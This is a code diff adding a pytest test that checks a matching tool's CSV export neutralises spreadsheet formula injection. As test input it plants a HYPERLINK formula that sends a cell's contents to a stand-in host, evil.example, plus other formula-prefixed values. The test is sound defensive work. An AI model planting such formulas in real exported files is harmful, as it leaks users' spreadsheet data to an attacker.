@@ -59,6 +59,22 @@ def test_match_writes_csv_and_prints_a_summary(tmp_path: Path) -> None:
     assert rows[0]["slots"] == "Mon 10:00-13:00 Europe/Berlin / Mon 09:00-12:00 Europe/London"
 
 
+def test_match_csv_cells_never_start_a_formula(tmp_path: Path) -> None:
+    """Identities come from the programme's own files: one written as a formula must reach
+    the spreadsheet as text (OWASP CSV injection), and still read back as typed."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
+    mentors = MENTORS.replace("ada,Ada Lovelace", f'"{evil.replace(chr(34), chr(34) * 2)}",Ada')
+    mentees = MENTEES.replace("bo,Bo,", "@SUM(1+1),Bo,").replace("cy,Cy,", "+cy,Cy,")
+    names = files(tmp_path, mentees)
+    (tmp_path / "m.csv").write_text(mentors)
+    proc = run(tmp_path, *names, "--out", str(tmp_path / "pairs.csv"))
+    assert proc.returncode == 0, proc.stderr
+    rows = list(csv.reader((tmp_path / "pairs.csv").open()))[1:]
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], rows
+    assert {rows[0][0], rows[0][1]} == {"'@SUM(1+1)", "'" + evil}
+
+
 def test_match_writes_json_in_stable_mode(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
